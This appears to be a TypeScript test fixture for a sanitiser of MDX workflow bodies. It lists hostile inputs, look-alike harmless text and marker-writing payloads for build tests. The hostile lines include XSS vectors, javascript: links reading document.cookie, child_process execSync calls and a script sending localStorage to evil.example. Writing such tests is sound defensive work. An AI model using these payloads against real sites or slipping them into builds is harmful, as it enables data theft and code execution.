/** Workflow body lines a hostile contributor tried, and harmless look-alikes that must pass. */

/**
 * Each vector a hostile contributor tried, as lines of a workflow body; the refused part is on the
 * vector's last line (`refusedLine`).
 */
export const HOSTILE: [string, string][] = [
	['an import', "import fs from 'node:fs'"],
	['an export', 'export const owned = true'],
	['an expression running a command', "{require('node:child_process').execSync('id')}"],
	['an expression importing a module', "{await import('node:fs')}"],
	['a script that sends localStorage away', '<script>fetch("https://evil.example/?" + localStorage.praxis)</script>'],
	['an image with an event handler', '<img src="x" onError="alert(1)" />'],
	['a javascript: link', '[Open the checklist](javascript:alert(document.cookie))'],
	['a data: link', '[Checklist](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
	['an iframe', '<iframe src="https://evil.example/"></iframe>'],
	['a style block', '<style>body { display: none }</style>'],
	['an HTML comment', '<!-- hidden -->'],
	['a component', '<Checklist items="x" />'],
	['a reference-style javascript: link', '[checklist]: javascript:alert(1)'],
	// Indented, as if it were code, but Markdown reads it as the paragraph's next line.
	['a script continuing an indented paragraph line', 'Some notes.\n    <script>alert(1)</script>'],
	// The line rules see a fence still open; Markdown closes it where the list item ends.
	['HTML after a fence that a list item closes', '- A step\n\n  ```\n  code\n<img src="x" onerror="alert(1)">'],
	['a javascript: link spelled with a character reference', '[Open](jav&#x61;script:alert(1))'],
	['a javascript: link with a tab hidden in it', '[Open](java&#9;script:alert(1))'],
];

/** The line of a vector, counted from its first, that is refused. */
export const refusedLine = (vector: string) => vector.split('\n').length;

/** What looks close but is plain text or code, and must pass. */
export const HARMLESS: [string, string][] = [
	['escaped braces', 'Fill in \\{customer_name\\} before sending.'],
	['an escaped heart', 'The team \\<3 this workflow.'],
	['code with braces and tags', 'Write `{name}` and `<script>` literally.'],
	['a fenced block of code', '```js\n{require("x")}\n<script>alert(1)</script>\nimport x from "y"\n```'],
	['an https link', '[The policy](https://intranet.example/policy)'],
	['the word javascript in prose', 'It explains javascript: the language, not a link.'],
	['an internal link', 'See [the contract workflow](/workflows/nda-first-pass-review/).'],
];

/** Payloads that would write `marker` if anything ran them, for the build tests. */
export const RUNNING_PAYLOADS = (marker: string): [string, string][] => [
	['an expression running a command', `{require('node:child_process').execSync('touch ${marker}')}`],
	['an expression importing a module', `{await import('node:fs').then((fs) => fs.writeFileSync('${marker}', 'x'))}`],
	['an exported statement', `export const owned = require('node:fs').writeFileSync('${marker}', 'x')`],
];
